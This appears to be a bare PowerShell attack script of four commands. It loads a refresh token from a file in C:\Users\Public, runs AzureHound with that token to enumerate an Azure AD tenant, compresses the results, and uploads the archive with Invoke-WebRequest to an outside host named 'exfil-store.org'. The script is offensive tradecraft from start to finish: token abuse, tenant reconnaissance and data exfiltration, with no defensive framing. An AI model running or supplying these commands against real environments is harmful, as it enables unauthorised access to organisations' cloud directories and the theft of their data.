$refresh = Get-Content "C:\Users\Public\rt.txt"
.\azurehound.exe -r $refresh list --tenant "contoso.onmicrosoft.com" -o "C:\Users\Public\ah.json"
Compress-Archive -Path "C:\Users\Public\ah.json" -DestinationPath "C:\Users\Public\ah.zip"
Invoke-WebRequest -Uri "https://files.exfil-store.org/drop" -Method Put -InFile "C:\Users\Public\ah.zip"
